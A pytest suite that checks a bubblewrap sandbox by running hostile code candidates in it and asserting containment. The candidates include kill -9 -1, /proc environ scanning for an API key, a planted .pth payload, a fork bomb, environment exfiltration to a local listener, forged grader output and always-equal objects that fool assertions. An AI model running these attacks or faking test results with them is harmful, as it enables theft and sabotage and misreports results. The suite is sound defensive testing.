"""Hostile candidates against the real bubblewrap sandbox, graded by a worker running as root AND as an
unprivileged uid (10001, the uid of the shipped Dockerfile and k8s manifests).

Each attack must do no harm (checked from outside: files, processes, the listener, the worker's memory) and
be graded as failed with a reason. Most attacks run with the in-sandbox audit hook switched off, because the
hook is only an extra layer: the namespaces and rlimits are the boundary. Where it makes sense a control runs
the same code unsandboxed, to show the check would catch a leak.
"""

from __future__ import annotations

import json
import os
import pathlib
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading

import pytest

from elo_per_token.worker.sandbox import bwrap

ROOT = pathlib.Path(__file__).resolve().parents[2]
UNPRIVILEGED_UID = 10001
MARK = "ept-hostile-" + secrets.token_hex(4)
CANARY = "sk-hostile-canary-" + secrets.token_hex(8)
FILE_CANARY = "file-canary-" + secrets.token_hex(8)
NEVER = ["assert f(1) == 'the expected value is never sent into the sandbox'"]

pytestmark = pytest.mark.skipif(bwrap.probe() is not None, reason=f"no working bwrap here: {bwrap.probe()}")


def _attacks(secret_file: str, owned_dir: str, port: int) -> dict[str, dict]:
    marker = "\\x1eEPT:"
    a = {
        "kill_parent": """
import os, signal, subprocess
def f(x):
    out = []
    for pid in (os.getppid(), {WORKER_PID}, -1):
        try:
            os.kill(pid, signal.SIGKILL)
            out.append(f"sent {pid}")
        except OSError as e:
            out.append(f"{pid}: errno {e.errno}")
    subprocess.run(["sh", "-c", "kill -9 $PPID; kill -9 {WORKER_PID}; kill -9 -1"])
    return "; ".join(out)
""",
        "read_environ": """
import os
def f(x):
    for pid in ["{WORKER_PID}", "self", "1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        for kv in data.split(b"\\0"):
            if kv.startswith(b"EPT_SIM_API_KEY="):
                return "LEAK " + kv.decode()
    return "no key in " + ",".join(p for p in os.listdir("/proc") if p.isdigit())
""",
        "read_secret_file": f"""
def f(x):
    try:
        return "LEAK " + open({secret_file!r}).read()
    except OSError as e:
        return f"denied: {{type(e).__name__}}"
""",
        "write_outside": f"""
import os, sysconfig
def f(x):
    out = []
    for d in ({owned_dir!r}, sysconfig.get_paths()["purelib"], "/usr/lib", "/", "/dev"):
        try:
            with open(os.path.join(d, "evil.pth"), "w") as fh:
                fh.write("import os; os.system('touch /tmp/pwned')\\n")
            out.append("wrote " + d)
        except OSError as e:
            out.append(type(e).__name__)
    return ", ".join(out)
""",
        "setsid_survivors": f"""
import os, subprocess
def f(x):
    subprocess.Popen(["setsid", "sh", "-c", "sleep 300; echo {MARK}"], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 301; echo {MARK}"])
        os._exit(0)
    return "spawned"
""",
        "tmp_and_shm_leftovers": f"""
def f(x):
    out = []
    for p in ("/tmp/{MARK}-tmp", "/dev/shm/{MARK}-shm"):
        with open(p, "wb") as fh:
            fh.write(b"x" * 3 * 1024 * 1024)
        out.append("wrote " + p)
    return ", ".join(out)
""",
        "forged_pass_at_load": f"""
import os
for line in ('{{"load": null}}', '{{"t": 0, "c": [], "e": null}}', '{{"done": 1}}'):
    os.write(1, ("\\n{marker}" + line + "\\n").encode())
os._exit(0)
def f(x):
    return 0
""",
        "forged_check_values": f"""
import os, json
def f(x):
    # Claim the check passed with a value of our choosing, then leave before the harness reports.
    for line in ('{{"t": 0, "c": [[0, [{{"v": true}}]]], "e": null}}', '{{"done": 1}}'):
        os.write(1, ("\\n{marker}" + line + "\\n").encode())
    os._exit(0)
""",
        "always_equal": """
class Eq:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = object.__hash__
class SneakyInt(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def f(x):
    return Eq() if x == 1 else SneakyInt(0)
""",
        "one_gb_output": """
import os
def f(x):
    block = b"x" * (32 * 1024 * 1024)
    for _ in range(32):
        os.write(1, block)
    return 0
""",
        "fork_bomb": """
import os
def f(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
        "network_to_localhost": f"""
import os, socket
def f(x):
    try:
        s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
        s.sendall(repr(dict(os.environ)).encode())
        s.close()
        return "sent"
    except OSError as e:
        return f"no network: {{type(e).__name__}}"
""",
        "nested_user_namespace": """
import subprocess
def f(x):
    p = subprocess.run(["unshare", "-U", "-r", "id", "-u"], capture_output=True, text=True)
    return "uid 0 in a nested namespace" if p.stdout.strip() == "0" else "refused: " + p.stderr.strip()[-60:]
""",
        "see_other_processes": """
import os
def f(x):
    return "pids " + ",".join(sorted(p for p in os.listdir("/proc") if p.isdigit()))
""",
    }
    tests = {"always_equal": ["assert f(1) == 'expected-1'", "assert f(2) == 99"]}
    limits = {"fork_bomb": {"timeout_s": 2, "cpu_s": 1}, "one_gb_output": {"timeout_s": 20, "cpu_s": 20}}
    return {
        name: {
            "code": code,
            "tests": tests.get(name, NEVER),
            "limits": limits.get(name, {"timeout_s": 5}),
            "audit_hook": False,
        }
        for name, code in a.items()
    }


class _Listener:
    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.t = threading.Thread(target=self._run, daemon=True)
        self.t.start()

    def _run(self) -> None:
        while not self.stop:
            try:
                c, _ = self.sock.accept()
            except OSError:
                continue
            c.settimeout(2)
            try:
                self.received.append(c.recv(1 << 20))
            except OSError:
                self.received.append(b"")
            c.close()

    def close(self) -> None:
        self.stop = True
        self.t.join()
        self.sock.close()


def _world_python() -> str | None:
    ver = f"python{sys.version_info.major}.{sys.version_info.minor}"
    for cand in (sys.executable, f"/usr/local/bin/{ver}", f"/usr/bin/{ver}"):
        if cand and os.path.exists(cand) and bwrap._world_usable(cand):
            return os.path.realpath(cand)
    return None


def _world_readable(path: pathlib.Path) -> bool:
    return bool(path.stat().st_mode & 0o004) and all(p.stat().st_mode & 0o001 for p in path.parents)


def _run_driver(mode: str, tmp: pathlib.Path) -> dict:
    """Grade every attack in a fresh worker process (`mode`: root or unprivileged) and return its report."""
    if mode == "root" and os.geteuid() != 0:
        pytest.skip("the root variant needs root")
    uid = UNPRIVILEGED_UID if os.geteuid() == 0 and mode == "unprivileged" else os.geteuid()
    python = sys.executable
    if uid != os.geteuid():
        python = _world_python()
        if python is None or not _world_readable(ROOT / "worker" / "sandbox" / "bwrap.py"):
            pytest.skip("no Python / checkout readable by an unprivileged uid")
    owned = tmp / f"owned-{mode}"
    owned.mkdir()
    secret = owned / "secret.txt"
    secret.write_text(FILE_CANARY)
    secret.chmod(0o600)
    owned.chmod(0o700)
    for p in (owned, secret):
        os.chown(p, uid, uid)
    lst = _Listener()
    try:
        attacks = _attacks(str(secret), str(owned), lst.port)
        controls = {
            k: attacks[k]["code"].replace("{WORKER_PID}", "1")
            for k in ("read_environ", "read_secret_file", "network_to_localhost")
        }
        spec = {"attacks": attacks, "controls": controls, "mark": MARK}
        env = {
            "PATH": "/usr/bin:/bin",
            "PYTHONPATH": str(ROOT),
            "EPT_SIM_API_KEY": CANARY,
            "AWS_SECRET_ACCESS_KEY": CANARY,
            "HOME": str(tmp),
        }
        p = subprocess.run(
            [python, str(ROOT / "testkit" / "hostile_driver.py")],
            input=json.dumps(spec),
            capture_output=True,
            text=True,
            timeout=600,
            env=env,
            cwd=str(tmp),
            **({"user": uid, "group": uid, "extra_groups": []} if uid != os.geteuid() else {}),
        )
        assert p.returncode == 0, f"the worker process died: rc {p.returncode}\n{p.stderr[-2000:]}"
        report = json.loads(p.stdout)
        report["listener"] = list(lst.received)
        report["owned"] = str(owned)
    finally:
        lst.close()
    assert report["uid"] == uid
    return report


@pytest.fixture(scope="module", params=["root", "unprivileged"])
def report(request):
    # Not under pytest's 0700 base directory: the unprivileged worker must reach its own folder.
    tmp = pathlib.Path(tempfile.mkdtemp(prefix="ept-hostile-"))
    tmp.chmod(0o711)
    try:
        yield _run_driver(request.param, tmp)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


def _failed(res: dict) -> str:
    assert res["passed"] < res["total"], res
    assert res["reason"], res
    return res["reason"]


@pytest.mark.slow
def test_nothing_leaks_anywhere(report):
    graded = json.dumps(report["results"])  # everything the grader returned (controls aside)
    assert CANARY not in graded and FILE_CANARY not in graded


def test_kill_parent_leaves_the_worker_and_its_other_processes_alive(report):
    reason = _failed(report["results"]["kill_parent"])
    assert report["sentinel_alive"]  # `kill -9 -1` reached nothing outside the sandbox
    assert "got f(1) = " in reason or "ended" in reason


def test_worker_environ_is_invisible(report):
    reason = _failed(report["results"]["read_environ"])
    assert "no key in" in reason and "LEAK" not in reason
    assert "LEAK EPT_SIM_API_KEY=" + CANARY in report["controls"]["read_environ"]  # control: it would find it


def test_worker_files_are_invisible(report):
    reason = _failed(report["results"]["read_secret_file"])
    assert "denied: FileNotFoundError" in reason
    assert FILE_CANARY in report["controls"]["read_secret_file"]


def test_nothing_is_written_outside_the_sandbox(report):
    reason = _failed(report["results"]["write_outside"])
    assert "wrote" not in reason
    assert not os.path.exists(os.path.join(report["owned"], "evil.pth"))
    assert not os.path.exists("/evil.pth") and not os.path.exists("/tmp/pwned")


def test_setsid_children_do_not_survive_grading(report):
    res = report["results"]["setsid_survivors"]
    assert "spawned" in _failed(res)
    assert res["survivors"] == [] and res["left_in_namespace"] == 0


def test_tmp_and_shm_are_private_and_gone(report):
    assert "wrote /dev/shm" in _failed(report["results"]["tmp_and_shm_leftovers"])
    assert not os.path.exists(f"/tmp/{MARK}-tmp") and not os.path.exists(f"/dev/shm/{MARK}-shm")


def test_forged_result_lines_do_not_pass(report):
    assert "did not all run" in _failed(report["results"]["forged_pass_at_load"])
    res = report["results"]["forged_check_values"]
    assert res["passed"] == 0 and "AssertionError" in _failed(res)


def test_always_equal_objects_do_not_pass(report):
    res = report["results"]["always_equal"]
    assert res["passed"] == 0 and "returned a Eq object" in _failed(res)
    assert "SneakyInt" in res["failures"][1]["error"]


def test_one_gb_of_output_is_cut_off_without_growing_the_worker(report):
    res = report["results"]["one_gb_output"]
    assert "output limit exceeded" in _failed(res)
    assert res["maxrss_growth_kb"] < 64 * 1024, res["maxrss_growth_kb"]
    assert res["elapsed_s"] < 20


def test_fork_bomb_is_contained(report):
    res = report["results"]["fork_bomb"]
    assert "timeout" in _failed(res) or "ended" in res["reason"]
    assert res["elapsed_s"] < 2 * 3 + 3 and res["left_in_namespace"] == 0
    assert report["sentinel_alive"]


def test_network_to_localhost_gets_nothing(report):
    assert "no network" in _failed(report["results"]["network_to_localhost"])
    # Only the (unsandboxed) control reached the listener, and it did carry the key.
    assert len(report["listener"]) == 1 and CANARY.encode() in report["listener"][0]


@pytest.mark.skipif(not bwrap._supports("--disable-userns"), reason="bwrap < 0.8 has no --disable-userns")
def test_no_nested_user_namespace(report):
    # A nested user namespace (root inside it) is the usual first step of a kernel privilege escalation.
    reason = _failed(report["results"]["nested_user_namespace"])
    assert "refused" in reason and "uid 0" not in reason


def test_a_sandbox_sees_only_its_own_processes(report):
    reason = _failed(report["results"]["see_other_processes"])
    pids = reason.split("pids ", 1)[1].split("'", 1)[0].split(",")
    assert pids == ["1"], pids  # the harness is its namespace's pid 1, alone
